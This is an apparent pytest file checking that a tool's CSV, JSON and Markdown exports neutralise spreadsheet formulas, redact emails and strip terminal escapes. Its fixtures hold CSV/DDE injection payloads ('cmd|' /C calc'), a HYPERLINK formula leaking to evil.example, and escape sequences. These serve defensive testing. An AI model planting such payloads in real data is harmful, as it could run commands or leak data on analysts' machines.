"""Exports are safe to open and to share, through every surface: lens_core.runs.export, `lens export`, the API's
/export/* and the dashboard's download buttons.

- CSV cells that a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return)
  get a leading apostrophe: evaluation_ids and analysts' labels and notes are planted with such values;
- summary exports replace personal data by typed placeholders by default (EXPORT_REDACT), here an email
  address in an analyst's notes. (Sample prompts are checked in tests/stage/test_pipeline.py.)
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from streamlit.testing.v1 import AppTest

from lens_api import create_app
from lens_core.config import Settings, get_settings
from lens_core.ingest.ingestor import ingest_records
from lens_core.runs.export import assignments_csv, summaries_text, to_csv
from lens_core.runs.options import ProcessOptions
from lens_core.runs.pipeline import process
from lens_core.samples.generator import generate
from lens_core.storage import queries
from lens_core.storage.engine import open_engine
from tests.conftest import ROOT, sqlite_url

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULA_IDS = ['=HYPERLINK("http://evil.example/?leak","open me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0"]
HIDDEN_ID = "ok\r=cmd|' /C calc'!A0"  # a formula after a carriage return: a new row if the cell is not quoted
LABEL = '=HYPERLINK("http://evil.example","fix this")'
NOTES = "\t@SUM(1) ask jane.doe@contoso.com before changing the retry policy"
SECOND_LABEL = "\r+1 token refresh"
EMAIL = "jane.doe@contoso.com"


def unsafe_cells(csv_text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: text that starts like a formula (numbers such as -1 are fine)."""
    rows = csv.reader(io.StringIO(csv_text, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def column(csv_text: str, name: str) -> list[str]:
    return [row[name] for row in csv.DictReader(io.StringIO(csv_text, newline=""))]


def plant(engine: Engine) -> int:
    """300 sample events, five with formulas in their ids, one run, and two annotated clusters."""
    events, _ = generate(300, seed=5)
    for event, planted in zip(events, [*FORMULA_IDS, HIDDEN_ID]):
        event["evaluation_id"] = planted
    assert ingest_records(events, engine=engine).accepted == 300
    settings = Settings(_env_file=None, embedding_backend="hashing", min_cluster_size=5, min_samples=3)
    run_id = process(engine=engine, settings=settings, options=ProcessOptions.of(embedder="hashing")).run_id
    first, second = [c.label for c in queries.clusters_of_run(engine=engine, run_id=run_id)][:2]
    queries.set_cluster_annotation(engine=engine, run_id=run_id, label=first, analyst_label=LABEL, analyst_notes=NOTES)
    queries.set_cluster_annotation(engine=engine, run_id=run_id, label=second, analyst_label=SECOND_LABEL,
                                   analyst_notes=None)
    return run_id


def check_summaries_csv(text: str) -> None:
    assert unsafe_cells(text) == []
    labels, notes = column(text, "label"), column(text, "notes")
    assert "'" + LABEL in labels and "'" + SECOND_LABEL in labels
    (planted_notes,) = [n for n in notes if n]
    assert planted_notes.startswith("'\t@SUM(1)") and EMAIL not in planted_notes and "<EMAIL>" in planted_notes


def check_assignments_csv(text: str) -> None:
    assert unsafe_cells(text) == []
    assert text.splitlines()[0] == "evaluation_id,fingerprint,message_pattern,cluster_id,run_id,pattern_id,pattern_title"
    assert all(column(text, "message_pattern"))  # every event's pattern, mined at ingest
    ids = set(column(text, "evaluation_id"))
    assert {"'" + planted for planted in FORMULA_IDS} <= ids and HIDDEN_ID in ids and len(ids) == 300


def check_redacted(*exports: str) -> None:
    for text in exports:
        assert EMAIL not in text.replace("\\", "")
    assert "<EMAIL>" in json.loads(exports[0])["clusters"][0]["notes"]


def test_to_csv_neutralises_each_formula_start() -> None:
    import pandas as pd

    cells = ["=1+1", "+1", "-x", "@A1", "\tx", "\rx", "plain", "a=b", "a\r=1+1", "a\n=1+1", "a\r\n@A1"]
    frame = pd.DataFrame({"text": cells, "n": range(-1, len(cells) - 1)})
    rows = list(csv.DictReader(io.StringIO(to_csv(frame), newline="")))
    assert [r["text"] for r in rows] == ["'=1+1", "'+1", "'-x", "'@A1", "'\tx", "'\rx", "plain", "a=b",
                                         "a\r=1+1", "a\n=1+1", "a\r\n@A1"]  # line breaks stay inside their cell
    assert rows[0]["n"] == "-1"  # numbers stay numbers


def test_core_exports_neutralise_formulas_and_redact_by_default(engine: Engine) -> None:
    plant(engine)
    check_summaries_csv(summaries_text(engine=engine, fmt="csv"))
    check_assignments_csv(assignments_csv(engine=engine))
    check_redacted(summaries_text(engine=engine, fmt="json"), summaries_text(engine=engine, fmt="md"))
    assert EMAIL in summaries_text(engine=engine, fmt="json", redact=False)  # EXPORT_REDACT=false keeps it


def test_api_exports_neutralise_formulas_and_redact_by_default(db_url: str) -> None:
    engine = open_engine(db_url)
    plant(engine)
    engine.dispose()
    settings = Settings(_env_file=None, database_url=db_url, embedding_backend="hashing")
    assert settings.export_redact is True
    with TestClient(create_app(settings)) as client:
        check_summaries_csv(client.get("/export/summaries", params={"format": "csv"}).text)
        check_assignments_csv(client.get("/export/assignments").text)
        check_redacted(client.get("/export/summaries").text, client.get("/export/summaries", params={"format": "md"}).text)


def test_cli_exports_neutralise_formulas_and_redact_by_default(tmp_path: Path) -> None:
    url = sqlite_url(tmp_path)
    engine = open_engine(url)
    plant(engine)
    engine.dispose()
    env = {**os.environ, "DATABASE_URL": url, "LOG_LEVEL": "WARNING", "PYTHONPATH": str(ROOT)}
    env.pop("EXPORT_REDACT", None)
    out = {}
    for name, args in {"csv": ["summaries", "--format", "csv"], "json": ["summaries", "--format", "json"],
                       "md": ["summaries", "--format", "md"], "assignments": ["assignments"]}.items():
        path = tmp_path / f"{name}.out"
        result = subprocess.run([sys.executable, "-m", "lens_core.cli", "export", *args, "--out", str(path)],
                                cwd=tmp_path, env=env, capture_output=True, text=True, timeout=600, check=False)
        assert result.returncode == 0, result.stderr
        out[name] = path.read_bytes().decode("utf-8")  # as saved: no newline translation
    check_summaries_csv(out["csv"])
    check_assignments_csv(out["assignments"])
    check_redacted(out["json"], out["md"])


def test_dashboard_downloads_neutralise_formulas_and_redact_by_default(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, downloads: Callable[[object], bytes]  # noqa: F811
) -> None:
    url = sqlite_url(tmp_path)
    engine = open_engine(url)
    plant(engine)
    engine.dispose()
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("EMBEDDING_BACKEND", "hashing")
    monkeypatch.delenv("EXPORT_REDACT", raising=False)
    get_settings.cache_clear()
    try:
        app = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=180).run()
        app.switch_page("../pages/export.py").run()
        assert not app.exception, [e.value for e in app.exception]
        check_summaries_csv(downloads(app.download_button(key="export_csv")).decode())
        check_assignments_csv(downloads(app.download_button(key="export_events")).decode())
        check_redacted(downloads(app.download_button(key="export_json")).decode(),
                       downloads(app.download_button(key="export_md")).decode())
    finally:
        get_settings.cache_clear()


# -- terminal escapes ----------------------------------------------------------------------------------

# Colours, a hyperlink (OSC 8), a title change ended by BEL, a one-byte CSI (U+009B) and DEL. (No NUL:
# PostgreSQL cannot store it, so no stored text holds one; to_csv is shown one below.)
ESCAPES = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b]0;pwned\x07\x9b2J\x7f end"


def controls(text: str) -> list[str]:
    """Control characters a terminal would act on: everything below space but tab, LF and CR; DEL; C1."""
    return [ch for ch in text if (ord(ch) < 0x20 and ch not in "\t\n\r") or 0x7F <= ord(ch) <= 0x9F]


def test_to_csv_drops_control_characters_but_keeps_line_breaks_and_tabs() -> None:
    import pandas as pd

    frame = pd.DataFrame({"text": [ESCAPES + "\x00", "a\tb\nc\r\nd", "\x1b=cmd|' /C calc'!A0", "\x07@SUM(1)"]})
    rows = [r["text"] for r in csv.DictReader(io.StringIO(to_csv(frame), newline=""))]
    assert rows[0] == "[31mred[0m ]8;;http://evil.examplelink]8;; ]0;pwned2J end"
    assert rows[1] == "a\tb\nc\r\nd"
    assert rows[2:] == ["'=cmd|' /C calc'!A0", "'@SUM(1)"]  # a control in front hides no formula
    assert controls(to_csv(frame)) == []


def test_markdown_and_csv_exports_carry_no_terminal_escapes(db_url: str) -> None:
    engine = open_engine(db_url)
    run_id = plant(engine)
    label = queries.clusters_of_run(engine=engine, run_id=run_id)[0].label
    queries.set_cluster_annotation(engine=engine, run_id=run_id, label=label, analyst_label=ESCAPES,
                                   analyst_notes="notes " + ESCAPES)
    engine.dispose()
    settings = Settings(_env_file=None, database_url=db_url, embedding_backend="hashing")
    with TestClient(create_app(settings)) as client:
        engine = client.app.state.context.engine
        exports = {fmt: summaries_text(engine=engine, fmt=fmt) for fmt in ("csv", "md")}
        exports["api-csv"] = client.get("/export/summaries", params={"format": "csv"}).text
        exports["api-md"] = client.get("/export/summaries", params={"format": "md"}).text
        exports["assignments"] = client.get("/export/assignments").text
    for name, text in exports.items():
        assert controls(text) == [], name
    for name in ("csv", "md", "api-csv", "api-md"):
        assert "pwned" in exports[name] and "end" in exports[name], name  # the text is kept, only controls go
